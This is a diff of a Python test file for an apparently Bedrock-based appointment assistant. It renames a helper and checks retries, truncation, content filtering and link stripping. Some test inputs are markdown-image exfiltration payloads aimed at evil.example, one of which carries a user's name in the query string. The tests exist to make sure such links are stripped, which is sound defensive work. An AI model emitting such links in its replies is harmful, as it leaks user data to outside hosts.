@@ -17,7 +17,7 @@ from shared.agent import AgentFailed, AgentUnavailable, Utterance, bedrock
 from shared.agent.bedrock import Bedrock
 from shared.agent.wording import without_links
 from shared.aws.error_codes import TRANSIENT_MODEL_ERRORS
-from tests.support.models import MODEL_ID, Model, Passing, answer, asked, found, handed_off, tools_of, use
+from tests.support.models import MODEL_ID, Model, Passing, answer, asked, found, handed_off, turn_of, use
 
 # How an answer ends
 
@@ -26,53 +26,55 @@ from tests.support.models import MODEL_ID, Model, Passing, answer, asked, found,
 def test_a_filtered_answer_hands_off_and_changes_nothing(model: Model, stop: str) -> None:
     mine = found()
     model.calls(("confirm", {"appointment_id": mine.doc["id"]}), ("end_conversation", {})).says("Blocked!", stop)
-    tools = tools_of(mine)
-    reply = asked(tools)
+    turn = turn_of(mine)
+    reply = asked(turn)
     assert reply.content == bedrock.FILTERED_REPLY
     assert reply.usage.input_tokens == 200
-    assert tools.actions == [{"type": "handoff", "reason": "content_filtered"}]
-    assert tools.change is None
+    assert reply.result.actions == [{"type": "handoff", "reason": "content_filtered"}]
+    assert reply.result.change is None
 
 
 def test_of_an_answer_that_is_too_long_the_whole_sentences_are_kept(model: Model) -> None:
     model.says("You have two. The first is on Fri", "max_tokens")
-    tools = tools_of()
-    assert asked(tools).content == "You have two."
-    assert tools.actions == []
+    turn = turn_of()
+    reply = asked(turn)
+    assert reply.content == "You have two."
+    assert reply.result.actions == []
 
 
 @pytest.mark.parametrize("text", ["You have", "", "<thinking>First. Second. Thi"])
 def test_of_an_answer_that_is_too_long_less_than_a_sentence_hands_off(model: Model, text: str) -> None:
     model.says(text, "max_tokens")
-    tools = tools_of()
-    assert asked(tools).content == bedrock.STUCK_REPLY
-    assert handed_off(tools) == "cannot_help"
+    turn = turn_of()
+    reply = asked(turn)
+    assert reply.content == bedrock.STUCK_REPLY
+    assert handed_off(reply) == "cannot_help"
 
 
 def test_a_call_that_was_cut_off_is_not_made(model: Model) -> None:
     mine = found()
     model.answers("max_tokens", use("a", "confirm", {"appointment_id": mine.doc["id"]}))
-    tools = tools_of(mine)
-    asked(tools)
-    assert tools.change is None
+    turn = turn_of(mine)
+    reply = asked(turn)
+    assert reply.result.change is None
 
 
 @pytest.mark.parametrize("text", ["", " \n", "<thinking>hm</thinking>", "![](https://evil.example/a.png)", "\u200b"])
 def test_an_answer_that_says_nothing_fails(model: Model, text: str) -> None:
     model.says(text)
     with pytest.raises(AgentFailed, match="no text"):
-        asked(tools_of())
+        asked(turn_of())
 
 
 def test_what_a_model_thinks_aloud_is_not_said(model: Model) -> None:
     model.says("<thinking>The rules say\nso.</thinking>\n\nHello.", "stop_sequence")
-    assert asked(tools_of()).content == "Hello."
+    assert asked(turn_of()).content == "Hello."
 
 
 def test_any_other_end_fails(model: Model) -> None:
     model.says("Hello.", "model_context_window_exceeded")
     with pytest.raises(AgentFailed, match="model_context_window_exceeded"):
-        asked(tools_of())
+        asked(turn_of())
 
 
 # Failures and time
@@ -81,7 +83,7 @@ def test_any_other_end_fails(model: Model) -> None:
 @pytest.mark.parametrize("code", sorted(TRANSIENT_MODEL_ERRORS))
 def test_a_busy_model_is_asked_again_after_a_wait(model: Model, passing: Passing, code: str) -> None:
     model.fails(code).fails(code).says("Hello.")
-    assert asked(tools_of(), passing=passing).content == "Hello."
+    assert asked(turn_of(), passing=passing).content == "Hello."
     assert len(passing.slept) == 2
     assert all(0 <= wait <= bedrock.FIRST_WAIT_S * 2**n for n, wait in enumerate(passing.slept))
 
@@ -90,7 +92,7 @@ def test_a_model_that_stays_busy_fails_after_a_few_tries(model: Model, passing: 
     for _ in range(bedrock.ATTEMPTS):
         model.fails("ThrottlingException")
     with pytest.raises(AgentUnavailable, match="ThrottlingException"):
-        asked(tools_of(), passing=passing, seconds=1000)
+        asked(turn_of(), passing=passing, seconds=1000)
     assert len(passing.slept) == bedrock.ATTEMPTS - 1
 
 
@@ -100,13 +102,13 @@ def test_a_model_that_stays_busy_fails_after_a_few_tries(model: Model, passing: 
 def test_other_errors_are_final(model: Model, passing: Passing, code: str) -> None:
     model.fails(code)
     with pytest.raises(AgentFailed, match=f"{code}: because"):
-        asked(tools_of(), passing=passing)
+        asked(turn_of(), passing=passing)
     assert passing.slept == []
 
 
 def test_no_request_is_begun_that_could_outlast_the_turn(model: Model, passing: Passing) -> None:
     with pytest.raises(AgentUnavailable, match="no time left"):
-        asked(tools_of(), passing=passing, seconds=bedrock.CONNECT_TIMEOUT_S + bedrock.LEAST_SECONDS - 0.1)
+        asked(turn_of(), passing=passing, seconds=bedrock.CONNECT_TIMEOUT_S + bedrock.LEAST_SECONDS - 0.1)
     assert model.requests == []
 
 
@@ -114,7 +116,7 @@ def test_rounds_and_waits_share_one_budget(model: Model, passing: Passing) -> No
     model.calls(("list_appointments", {}))
     model.takes = lambda: passing.sleep(8)
     with pytest.raises(AgentUnavailable, match="no time left"):
-        asked(tools_of(), passing=passing, seconds=9.5)
+        asked(turn_of(), passing=passing, seconds=9.5)
     assert len(model.requests) == 1
 
 
@@ -146,7 +148,7 @@ def test_a_lost_answer_is_asked_for_again_by_us_alone(unstubbed: Bedrock, passin
         return AWSResponse(request.url, 200, HTTPHeaders(), Body())
 
     unstubbed.client.meta.events.register("before-send.bedrock-runtime.Converse", send)
-    reply = unstubbed.reply([Utterance("user", "Hello")], tools_of(), 45)
+    reply = unstubbed.reply([Utterance("user", "Hello")], turn_of(), 45)
     assert reply.content == "Hello."
     assert len(sent) == 3
     assert len(passing.slept) == 2
@@ -158,7 +160,7 @@ def test_an_error_on_our_side_is_final(unstubbed: Bedrock, passing: Passing) -> 
 
     unstubbed.client.meta.events.register("before-send.bedrock-runtime.Converse", send)
     with pytest.raises(AgentFailed, match="NoCredentialsError"):
-        unstubbed.reply([Utterance("user", "Hello")], tools_of(), 45)
+        unstubbed.reply([Utterance("user", "Hello")], turn_of(), 45)
     assert passing.slept == []
 
 
@@ -232,7 +234,7 @@ def test_links_become_their_labels(said: str, shown: str) -> None:
 
 def test_a_reply_is_said_without_its_links(model: Model) -> None:
     model.says("Done. ![ ](https://evil.example/?name=Ada)")
-    assert asked(tools_of()).content == "Done."
+    assert asked(turn_of()).content == "Done."
 
 
 HOSTILE = {
